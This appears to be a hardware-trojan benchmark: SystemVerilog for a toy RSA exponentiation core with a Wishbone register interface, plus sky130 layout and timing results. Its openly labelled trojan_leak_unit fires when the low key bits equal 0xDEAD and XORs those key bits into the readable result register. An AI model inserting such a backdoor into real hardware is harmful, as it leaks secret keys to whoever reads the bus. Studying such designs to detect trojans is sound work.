[config.mk]
export PLATFORM = sky130hd
export DESIGN_NAME = rsa_host_top
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/wb_bus_pkg.sv /design/src/rsa_types_pkg.sv /design/src/rsa_host_top.sv /design/src/trojan_leak_unit.sv /design/src/key_material_gen.sv /design/src/modexp_core.sv /design/src/wb_reg_frontend.sv
export VERILOG_INCLUDE_DIRS = /design/src
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 2
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CAP_MARGIN = 10
export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 1
export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 2
export CORE_MARGIN = 2
export CORE_UTILIZATION = 44
export DETAILED_ROUTE_END_ITERATION = 12
export GPL_ROUTABILITY_DRIVEN = 0
export HOLD_SLACK_MARGIN = 0.08
export PLACE_DENSITY = 0.89
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
[constraint.sdc]
create_clock -name clk -period 177.9 [get_ports clk]
set_input_delay 17.79 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 17.79 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
[src/rsa_consts.svh]
// RSA benchmark constants
`ifndef RSA_CONSTS_SVH
`define RSA_CONSTS_SVH

// Operand widths for the toy modular exponentiation
`define RSA_MOD_W 16
`define RSA_EXP_W 4

// Key material taken from the low half of the LFSR
`define RSA_KEY_W 64
`define RSA_LFSR_W 128

// LFSR state after reset
`define RSA_PRIME_SEED 128'h123456789ABCDEF0FEDCBA9876543210

// Low key bits that arm the leak
`define RSA_TROJ_KEY 16'hDEAD

// Wishbone geometry, word addressed
`define WB_ADDR_W 3
`define WB_DATA_W 16

// Register map
`define RSA_REG_MESSAGE  3'd0
`define RSA_REG_MODULUS  3'd1
`define RSA_REG_EXPONENT 3'd2
`define RSA_REG_CTRL     3'd3
`define RSA_REG_STATUS   3'd4
`define RSA_REG_RESULT   3'd5

`endif
[src/wb_bus_pkg.sv]
// Wishbone bus types
`include "rsa_consts.svh"

package wb_bus_pkg;

    // Master to slave
    typedef struct packed {
        logic                  cyc;
        logic                  stb;
        logic                  we;
        logic [`WB_ADDR_W-1:0] adr;
        logic [`WB_DATA_W-1:0] dat;
    } wb_req_t;

    // Slave to master
    typedef struct packed {
        logic                  ack;
        logic [`WB_DATA_W-1:0] dat;
    } wb_rsp_t;

    typedef enum logic [`WB_ADDR_W-1:0] {
        reg_message  = `RSA_REG_MESSAGE,
        reg_modulus  = `RSA_REG_MODULUS,
        reg_exponent = `RSA_REG_EXPONENT,
        reg_ctrl     = `RSA_REG_CTRL,
        reg_status   = `RSA_REG_STATUS,
        reg_result   = `RSA_REG_RESULT
    } reg_sel_t;

endpackage

[src/rsa_types_pkg.sv]
// RSA operation types
`include "rsa_consts.svh"

package rsa_types_pkg;

    // Exponentiation core sequencing
    typedef enum logic [1:0] {
        idle   = 2'd0,
        load   = 2'd1,
        step   = 2'd2,
        finish = 2'd3
    } core_state_t;

    // One operation as handed to the core
    typedef struct packed {
        logic [`RSA_MOD_W-1:0] message;
        logic [`RSA_MOD_W-1:0] modulus;
        logic [`RSA_EXP_W-1:0] exponent;
    } modexp_req_t;

    // Core answer, valid for one cycle
    typedef struct packed {
        logic [`RSA_MOD_W-1:0] value;
        logic                  valid;
    } modexp_rsp_t;

endpackage

[src/rsa_host_top.sv]
// RSA benchmark host top
`timescale 1ns/1ps
`include "rsa_consts.svh"

module rsa_host_top (
    input  logic                clk,
    input  logic                rst,
    input  wb_bus_pkg::wb_req_t wb_req,
    output wb_bus_pkg::wb_rsp_t wb_rsp
);
    import rsa_types_pkg::*;

    logic                  op_start;
    modexp_req_t           op_req;
    logic                  core_busy;
    modexp_rsp_t           core_rsp;
    logic [`RSA_KEY_W-1:0] key_material;
    logic [`RSA_MOD_W-1:0] leak_mask;

    wb_reg_frontend wb_reg_frontend_inst (
        .clk       (clk),
        .rst       (rst),
        .wb_req    (wb_req),
        .wb_rsp    (wb_rsp),
        .op_start  (op_start),
        .op_req    (op_req),
        .core_busy (core_busy),
        .core_rsp  (core_rsp),
        .leak_mask (leak_mask)
    );

    modexp_core modexp_core_inst (
        .clk   (clk),
        .rst   (rst),
        .start (op_start),
        .req   (op_req),
        .busy  (core_busy),
        .rsp   (core_rsp)
    );

    // One LFSR step per accepted operation
    key_material_gen key_material_gen_inst (
        .clk          (clk),
        .rst          (rst),
        .advance      (op_start),
        .modulus      (op_req.modulus),
        .key_material (key_material)
    );

    trojan_leak_unit trojan_leak_unit_inst (
        .clk          (clk),
        .rst          (rst),
        .key_material (key_material),
        .leak_mask    (leak_mask)
    );

endmodule

[src/trojan_leak_unit.sv]
// Trojan trigger and leak mask
`timescale 1ns/1ps
`include "rsa_consts.svh"

module trojan_leak_unit (
    input  logic                  clk,
    input  logic                  rst,
    input  logic [`RSA_KEY_W-1:0] key_material,
    output logic [`RSA_MOD_W-1:0] leak_mask
);

    logic [`RSA_MOD_W-1:0] key_low;
    logic [`RSA_MOD_W-1:0] key_low_q;
    logic                  match_q;

    assign key_low = key_material[`RSA_MOD_W-1:0];

    // Trigger compare, one cycle behind the key
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            key_low_q <= '0;
            match_q   <= 1'b0;
        end else begin
            key_low_q <= key_low;
            match_q   <= (key_low == `RSA_TROJ_KEY);
        end
    end

    // Clean result unless armed
    assign leak_mask = match_q ? key_low_q : '0;

endmodule

[src/key_material_gen.sv]
// Key material generator
`timescale 1ns/1ps
`include "rsa_consts.svh"

module key_material_gen (
    input  logic                  clk,
    input  logic                  rst,
    input  logic                  advance,
    input  logic [`RSA_MOD_W-1:0] modulus,
    output logic [`RSA_KEY_W-1:0] key_material
);

    logic [`RSA_LFSR_W-1:0] lfsr;
    logic                   feedback;
    logic [`RSA_KEY_W-1:0]  mixed;

    // Taps 127, 95, 63, 31
    assign feedback = lfsr[127] ^ lfsr[95] ^ lfsr[63] ^ lfsr[31];

    // Pre-shift state mixed with the modulus
    assign mixed = lfsr[`RSA_KEY_W-1:0] ^ {{(`RSA_KEY_W-`RSA_MOD_W){1'b0}}, modulus};

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            lfsr         <= `RSA_PRIME_SEED;
            key_material <= '0;
        end else if (advance) begin
            lfsr         <= {lfsr[`RSA_LFSR_W-2:0], feedback};
            key_material <= mixed;
        end
    end

endmodule

[src/modexp_core.sv]
// Square-and-multiply core
`timescale 1ns/1ps
`include "rsa_consts.svh"

module modexp_core (
    input  logic                       clk,
    input  logic                       rst,
    input  logic                       start,
    input  rsa_types_pkg::modexp_req_t req,
    output logic                       busy,
    output rsa_types_pkg::modexp_rsp_t rsp
);
    import rsa_types_pkg::*;

    core_state_t           state;
    logic [`RSA_EXP_W-1:0] exp_cnt;
    modexp_req_t           req_q;
    logic [`RSA_MOD_W-1:0] acc;
    logic [`RSA_MOD_W-1:0] base;

    // Full-width product reduced by the modulus
    function automatic logic [`RSA_MOD_W-1:0] mod_mul(
        input logic [`RSA_MOD_W-1:0] a,
        input logic [`RSA_MOD_W-1:0] b,
        input logic [`RSA_MOD_W-1:0] m
    );
        logic [2*`RSA_MOD_W-1:0] prod;
        logic [2*`RSA_MOD_W-1:0] rem;
        prod = {{`RSA_MOD_W{1'b0}}, a} * {{`RSA_MOD_W{1'b0}}, b};
        rem  = prod % {{`RSA_MOD_W{1'b0}}, m};
        return rem[`RSA_MOD_W-1:0];
    endfunction

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state   <= idle;
            exp_cnt <= '0;
        end else begin
            case (state)
                idle: begin
                    if (start) begin
                        state <= load;
                    end
                end
                load: begin
                    exp_cnt <= req_q.exponent;
                    state   <= (req_q.exponent == '0) ? finish : step;
                end
                step: begin
                    exp_cnt <= exp_cnt >> 1;
                    // Leave right after the top set bit
                    if ((exp_cnt >> 1) == '0) begin
                        state <= finish;
                    end
                end
                finish: state <= idle;
                default: state <= idle;
            endcase
        end
    end

    // Operands and running values
    always_ff @(posedge clk) begin
        case (state)
            idle: begin
                if (start) begin
                    req_q <= req;
                end
            end
            load: begin
                acc  <= mod_mul(`RSA_MOD_W'd1, `RSA_MOD_W'd1, req_q.modulus);
                base <= mod_mul(req_q.message, `RSA_MOD_W'd1, req_q.modulus);
            end
            step: begin
                if (exp_cnt[0]) begin
                    acc <= mod_mul(acc, base, req_q.modulus);
                end
                base <= mod_mul(base, base, req_q.modulus);
            end
            default: ;
        endcase
    end

    assign busy      = (state != idle);
    assign rsp.value = acc;
    assign rsp.valid = (state == finish);

    valid_pulse: assert property (@(posedge clk) disable iff (rst)
        rsp.valid |=> !rsp.valid);

endmodule

[src/wb_reg_frontend.sv]
// Wishbone register frontend
`timescale 1ns/1ps
`include "rsa_consts.svh"

module wb_reg_frontend (
    input  logic                       clk,
    input  logic                       rst,
    input  wb_bus_pkg::wb_req_t        wb_req,
    output wb_bus_pkg::wb_rsp_t        wb_rsp,
    output logic                       op_start,
    output rsa_types_pkg::modexp_req_t op_req,
    input  logic                       core_busy,
    input  rsa_types_pkg::modexp_rsp_t core_rsp,
    input  logic [`RSA_MOD_W-1:0]      leak_mask
);
    import wb_bus_pkg::*;

    logic                  ack_q;
    logic [`WB_DATA_W-1:0] rd_data_q;
    logic [`RSA_MOD_W-1:0] message_q;
    logic [`RSA_MOD_W-1:0] modulus_q;
    logic [`RSA_EXP_W-1:0] exponent_q;
    logic [`RSA_MOD_W-1:0] result_q;
    logic                  start_q;
    logic                  done_q;
    logic                  error_q;

    reg_sel_t              sel;
    logic                  access;
    logic                  wr;
    logic                  rd;
    logic                  start_req;
    logic                  mod_ok;
    logic                  launch;
    logic [`WB_DATA_W-1:0] rd_mux;

    // A transfer is taken only in the cycle before its ack
    assign access = wb_req.cyc && wb_req.stb && !ack_q;
    assign wr     = access && wb_req.we;
    assign rd     = access && !wb_req.we;
    assign sel    = reg_sel_t'(wb_req.adr);

    // Starts while the core runs are dropped
    assign start_req = wr && (sel == reg_ctrl) && wb_req.dat[0] && !core_busy && !start_q;
    assign mod_ok    = (modulus_q > `RSA_MOD_W'd1);
    assign launch    = start_req && mod_ok;

    always_comb begin
        case (sel)
            reg_message:  rd_mux = message_q;
            reg_modulus:  rd_mux = modulus_q;
            reg_exponent: rd_mux = {{(`WB_DATA_W-`RSA_EXP_W){1'b0}}, exponent_q};
            reg_status:   rd_mux = {{(`WB_DATA_W-3){1'b0}}, error_q, done_q, core_busy};
            reg_result:   rd_mux = result_q;
            default:      rd_mux = '0;
        endcase
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            ack_q     <= 1'b0;
            rd_data_q <= '0;
        end else begin
            ack_q <= access;
            if (rd) begin
                rd_data_q <= rd_mux;
            end
        end
    end

    // Operand registers
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            message_q  <= '0;
            modulus_q  <= '0;
            exponent_q <= '0;
        end else if (wr) begin
            case (sel)
                reg_message:  message_q  <= wb_req.dat;
                reg_modulus:  modulus_q  <= wb_req.dat;
                reg_exponent: exponent_q <= wb_req.dat[`RSA_EXP_W-1:0];
                default:      ;
            endcase
        end
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            start_q  <= 1'b0;
            done_q   <= 1'b0;
            error_q  <= 1'b0;
            result_q <= '0;
        end else begin
            start_q <= launch;
            if (start_req) begin
                error_q <= !mod_ok;
            end
            // Completion wins over a clearing read in the same cycle
            if (core_rsp.valid) begin
                done_q <= 1'b1;
            end else if (launch || (rd && sel == reg_result)) begin
                done_q <= 1'b0;
            end
            if (core_rsp.valid) begin
                result_q <= core_rsp.value ^ leak_mask;
            end
        end
    end

    assign wb_rsp.ack = ack_q;
    assign wb_rsp.dat = rd_data_q;

    assign op_start        = start_q;
    assign op_req.message  = message_q;
    assign op_req.modulus  = modulus_q;
    assign op_req.exponent = exponent_q;

    ack_one_cycle: assert property (@(posedge clk) disable iff (rst)
        wb_rsp.ack |=> !wb_rsp.ack);

    start_only_idle: assert property (@(posedge clk) disable iff (rst)
        $rose(op_start) |-> !core_busy);

endmodule

==> results.cfg <==
[layout]
antennaDiodeCount = 0
drive_above_1_share_pct = 10.2
final_nets = 10460
num-fill-cells = 20170
syn2layout_area_growth_pct = 5.65

[setup_path]
crit_required_ps = 178190
crit_top_cell = o21a_1
cp_data_arrival_time_ps = 116650
slowest_delay_ps = 990
worst_setup_path_start_kind = flop
worstPathMaxFanout = 40
slowest_stage = edfxtp_1
worstSetupEndpointType = flop
critPathKind = reg2reg

[grt]
grt_pass1_wl_mm = 407
grt_pass1_vias = 72587
grt_max_degree = 118
grt_usage_pct = 29.9
gr-total-overflow = 0
antenna_found_initial = 9

[timing]
worst_pin_slew_ps = 1140
rsz0062_at_grt = no
max_slew_margin_pct = 22.9
period_share_pct = 65.4
finClkSkew_ps = 21.8
setup_viol = 0
min_period_ps = 116360
max_freq_mhz = 8.59
hold_viol = 0
final-max-slew-violation-count = 0
setup_tns_ps = 0

[clock_tree]
ctsHoldBuffers = 0
post_cts_buffers = 0
clockBufferDepth = 3
numCtsBuffers = 35
postCtsResizedCells = 0
cts_tree = built
cts.clk_slew.worst_paths_ps = 80
cts-root-buf = clkbuf_16
clk_latency_ps = 560
htree_levels = 2
clock_sinks = 307

[synthesis]
yosys_warnings = 0
synth_area_leaders = ha_1 (17%), fa_1 (9.9%), dfrtp_1 (6.0%)
synth_area_per_cell_um2 = 7.93
async_flop_share_pct = 77.9
synthMostInstantiatedCell = ha_1
syn_inst = 9163
synth.top_cell.area_share_pct = 17.2
syn_nets = 10544
ys_types = 111
seq_area_frac_synth_pct = 11.1
netlist_area_mm2 = 0.0727
synth_common_cells = ha_1 (999), nand2_1 (884), nor2_1 (707)
synth_largest_area_cell = ha_1
synth_edf_count = 68
ys.flop_type = dfrtp_1
ys_ff_latch = 307

[floorplanning]
io_pins = 41
fp-row-count = 149
core_area_mm2 = 0.165
die-area_mm2 = 0.168
die_h_um = 410
start_util_pct = 44.2
die_w_um = 410

[route]
drc = 0
ant_nets = 0
post_drt_wl_per_cell_um = 22.8
via_per_inst = 6.19
first_iter_violations = 4512
totalWireLength_mm = 258
drtPass1Iterations = 5
vias = 69870

[job]
cap_viol_max_count = 0

[placement]
dpl.hpwl_mm = 206
port_buffers = 40

[min_path]
hold_class = reg2reg

[status]
outcome = complete, no violations
==> stage by stage <==
step                      utilization [%]  instances  worst slack, ps  hold WS, ps  instance area [um^2]
final                                46.7      11295            61540          391                 76800
after global routing                 46.7      11295            53040          408                 76800
after CTS                            46.7      11295            62590          399                 76800
after detailed placement             45.9      11231            63000          388                 75600
after global placement               45.9      11231            65620          385                 75600
after floorplan                         -       9163            75900          367                 72700
==> area by class of cell <==
class	instances	area [um^2]	area share (%)
Clock buffer	48	1010	1.32
Clock inverter	16	214	0.279
Inverter	669	2530	3.29
Multi-Input combinational cell	7898	61000	79.5
Sequential cell	307	8110	10.6
Tap cell	2189	2740	3.57
Timing Repair Buffer	168	1170	1.53
==> registers in the layout, summed over array words and instances (netlist names), 16 cells and up <==
name / flops
wb_reg_frontend_inst.rd_data_q: 16
modexp_core_inst.req_q: 36
trojan_leak_unit_inst.key_low_q: 16
modexp_core_inst.base: 16
modexp_core_inst.acc: 16
wb_reg_frontend_inst.result_q: 16
wb_reg_frontend_inst.message_q: 16
key_material_gen_inst.lfsr: 128
wb_reg_frontend_inst.modulus_q: 16
key_material_gen_inst.key_material: 16
==> metal layers <==
layer	track usage, %	up-vias	share of wire [%]	routed length, um
met5	0	-	0.019	48
met4	9.27	8	3.5	9100
met3	3.42	453	5.0	12900
met2	50.1	1660	46	119000
met1	40.1	34893	45	116000
li1	-	32856	-	-
==> placed cells by master (no fill, tap or decap), drive strengths merged, types with 83 or more instances in the layout <==
| master | n |
|---|---|
| nor3 | 458 |
| nand4 | 83 |
| nand3 | 134 |
| xor2 | 188 |
| buf | 168 |
| nor2b | 86 |
| nand2b | 88 |
| a21oi | 590 |
| o21a | 452 |
| and2 | 237 |
| ha | 999 |
| a21o | 219 |
| o21ai | 385 |
| xnor2 | 274 |
| nand2 | 884 |
| inv | 669 |
| mux2 | 398 |
| a31oi | 86 |
| dfrtp | 175 |
| or2 | 140 |
| fa | 358 |
| nor2 | 708 |
| o31ai | 173 |
==> final timing paths <==
check	start	endpoint	slack [ps]	cells after the start
hold reg to reg	key_material_gen_inst.key_material[13]	trojan_leak_unit_inst.key_low_q[13]	390	0
setup / recovery	modexp_core_inst.acc[9]	modexp_core_inst.acc[6]	61540	466
hold / removal	key_material_gen_inst.key_material[13]	trojan_leak_unit_inst.key_low_q[13]	390	0
max in group asynchronous	rst	trojan_leak_unit_inst.key_low_q[15]	158240	4
setup reg to reg	modexp_core_inst.acc[9]	modexp_core_inst.acc[6]	61540	466
min in group asynchronous	rst	key_material_gen_inst.lfsr[77]	17350	2
==> critical path, delay by kind of cell (launching register included) <==
kind                       cells  cell delay (ps)
AOI/OAI and AO/OA            291            70490
muxes                         11             3960
and+or+nand+nor              101            22320
xor gates and xnor gates       1              120
DFF                            1              990
buffers and inverters         23             3840
adders and majority gates     39            13940
==> kinds of logic (layout without fill, tap and decap cells) <==
kind of cell	Yosys count	count (layout)	synth area share (%)
xor gates and xnor gates	462	462	5.57
and+or+nand+nor	3126	3126	20.9
adders and majority gates	1359	1359	27.1
AOI/OAI and AO/OA	2476	2476	23.0
buffers and inverters	958	901	4.99
muxes	475	475	7.32
DFF	307	307	11.1
Power is not shown: default switching activity piles up to over one toggle a cycle in this logic, so the estimate is an artifact.
